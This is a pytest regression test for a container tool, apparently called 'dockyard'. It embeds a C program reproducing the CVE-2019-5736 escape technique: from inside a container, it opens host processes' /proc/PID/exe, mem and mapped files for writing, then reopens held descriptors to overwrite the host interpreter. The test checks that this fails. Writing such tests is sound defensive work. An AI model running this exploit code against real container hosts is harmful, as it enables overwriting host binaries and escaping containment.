"""CVE-2019-5736 class: a container process goes after the host interpreter of whatever enters the container.

A static attacker inside the container spins over /proc, and for every process whose executable is not one of
the container's own (so: our helpers, and with --init our pid 1) opens /proc/PID/exe for write, for read and as
O_PATH (keeping those), /proc/PID/mem for write and /proc/PID/map_files/* for write. Meanwhile the host runs
`exec` 50 times, `cp` both ways and a health check, with a copy of the interpreter so that the copy is idle
afterwards; then the attacker reopens every kept file for write through /proc/self/fd, as the CVE's exploit did.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig

import pytest
from support import tool, wait_for

ATTACKER = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static FILE *out;
static int held[256], nheld;
static char seen[4096][96];
static int nseen;

/* Log each (what, file) once: pid 1 is retried on every pass. */
static void note(const char *what, int fd, const char *link) {
    struct stat st;
    char key[96];
    if (fstat(fd, &st) != 0) return;
    snprintf(key, sizeof key, "%s %lu %lu", what, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
    for (int i = 0; i < nseen; i++) if (!strcmp(seen[i], key)) return;
    if (nseen < 4096) strcpy(seen[nseen++], key);
    fprintf(out, "%s %s\n", key, link);
    fflush(out);
}

static void keep(int fd) {
    struct stat a, b;
    fstat(fd, &a);
    for (int i = 0; i < nheld; i++)
        if (fstat(held[i], &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino) { close(fd); return; }
    if (nheld < 256) held[nheld++] = fd; else close(fd);
}

/* The container's own programs are fair game for its root; everything else is a visitor. */
static int own(const char *link) { return !strncmp(link, "/bin/", 5) || !strncmp(link, "/x/", 3); }

/* What an open fd is, by its link: no race with the process it came from exec'ing meanwhile. */
static int visitor(int fd, char *link) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, link, 4095);
    link[n < 0 ? 0 : n] = 0;
    if (n >= 0 && !own(link)) return 1;
    close(fd);
    return 0;
}

static void try_write(int fd, const char *link) {
    note("OPENW", fd, link);
    if (write(fd, "PWNED", 5) == 5) note("WROTE", fd, link);
    close(fd);
}

static void attack(int pid) {
    char path[128], link[4096];
    ssize_t n;
    int fd;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    n = readlink(path, link, sizeof link - 1);
    link[n < 0 ? 0 : n] = 0;
    if (n >= 0 && own(link)) return;
    if ((fd = open(path, O_WRONLY | O_APPEND)) >= 0 && visitor(fd, link)) try_write(fd, link);
    if ((fd = open(path, O_RDONLY)) >= 0 && visitor(fd, link)) { note("OPENR", fd, link); keep(fd); }
    if ((fd = open(path, O_PATH)) >= 0 && visitor(fd, link)) { note("OPENP", fd, link); keep(fd); }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if ((fd = open(path, O_RDWR)) >= 0) {
        /* Whose memory: the exe now, unless the process is gone or turned out to be the container's own. */
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        n = readlink(path, link, sizeof link - 1);
        link[n < 0 ? 0 : n] = 0;
        if ((n < 0 && errno == ENOENT) || own(link)) close(fd);
        else { note("MEM", fd, n < 0 ? "?" : link); close(fd); }
    }
    snprintf(path, sizeof path, "/proc/%d/map_files", pid);
    DIR *maps = opendir(path);
    if (maps) {
        struct dirent *e;
        while ((e = readdir(maps))) {
            char file[512];
            if (e->d_name[0] == '.') continue;
            snprintf(file, sizeof file, "%s/%s", path, e->d_name);
            if ((fd = open(file, O_RDWR)) >= 0 && visitor(fd, link)) try_write(fd, link);
        }
        closedir(maps);
    }
}

int main(void) {
    int me = getpid();
    out = fopen("/x/log", "w");
    fprintf(out, "READY\n");
    fflush(out);
    while (access("/x/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid > 0 && pid != me) attack(pid);
        }
        closedir(proc);
    }
    /* The visitors are gone and their interpreter idle: the write the CVE's exploit made. */
    for (int i = 0; i < nheld; i++) {
        char path[64], link[4096];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        ssize_t n = readlink(path, link, sizeof link - 1);
        link[n < 0 ? 0 : n] = 0;
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) try_write(fd, link);
    }
    fprintf(out, "DONE\n");
    fclose(out);
    for (;;) pause();
}
"""


def _digest(path: str) -> str:
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def _interpreter_files() -> list[str]:
    """The files of the interpreter running dockyard: the executable and, when shared, libpython."""
    files = [os.path.realpath(sys.executable)]
    if sysconfig.get_config_var("Py_ENABLE_SHARED"):
        files.append(os.path.join(sysconfig.get_config_var("LIBDIR"), sysconfig.get_config_var("INSTSONAME")))
    return files


@pytest.mark.parametrize("caps", [[], ["--cap-add", "SYS_PTRACE"]], ids=["default-caps", "sys-ptrace"])
def test_nothing_entering_a_container_exposes_the_host_interpreter(ctr, store_root, tmp_path, caps):
    shared = tmp_path / "x"
    shared.mkdir()
    (tmp_path / "attacker.c").write_text(ATTACKER)
    subprocess.run([tool("gcc"), "-static", "-O2", "-o", str(shared / "attacker"), str(tmp_path / "attacker.c")],
                   check=True)
    # The CLI runs from a copy of the interpreter: idle once the commands are done, as in the CVE.
    python = str(tmp_path / os.path.basename(os.path.realpath(sys.executable)))
    shutil.copy2(os.path.realpath(sys.executable), python)
    targets = [python, *_interpreter_files()]
    before = {path: _digest(path) for path in targets}
    ids = {(os.stat(path).st_dev, os.stat(path).st_ino) for path in targets}

    def copy(*args: str) -> None:
        env = {**os.environ, "DOCKYARD_ROOT": store_root}
        subprocess.run([python, "-m", "dockyard", *args], env=env, check=True, capture_output=True)

    # --init: pid 1 is our reaper for the container's whole life, a standing target.
    ctr("run", "-d", "--name", "atk", "--init", "--network", "none", *caps, "-v", f"{shared}:/x",
        "--health-cmd", "true", "--health-interval", "100ms", "busybox", "/x/attacker")
    wait_for(lambda: (shared / "log").exists() and "READY" in (shared / "log").read_text())
    (tmp_path / "file").write_text("payload\n")
    for i in range(50):
        copy("exec", "atk", "true")
        if i % 10 == 0:
            copy("cp", str(tmp_path / "file"), "atk:/tmp/file")
            copy("cp", "atk:/tmp/file", str(tmp_path / f"back{i}"))
    assert [h["ExitCode"] for h in json.loads(ctr("inspect", "atk").out)[0]["State"]["Health"]["Log"]] == [0] * 5
    (shared / "stop").touch()
    wait_for(lambda: "DONE" in (shared / "log").read_text(), timeout=60)
    ctr("rm", "-f", "atk")
    log = (shared / "log").read_text().splitlines()
    opened = [line.split(None, 3) for line in log if line not in ("READY", "DONE")]
    # Nothing of the host's interpreter was opened, let alone written, whatever the container's capabilities.
    assert not [o for o in opened if (int(o[1]), int(o[2])) in ids], log
    assert not [o for o in opened if o[0] in ("OPENW", "WROTE")], log  # not even our read-only copy opens for write
    assert {path: _digest(path) for path in targets} == before
    if not caps:
        # Without CAP_SYS_PTRACE a visitor cannot be looked into at all: not its exe, mem, or mapped files.
        assert opened == [], log
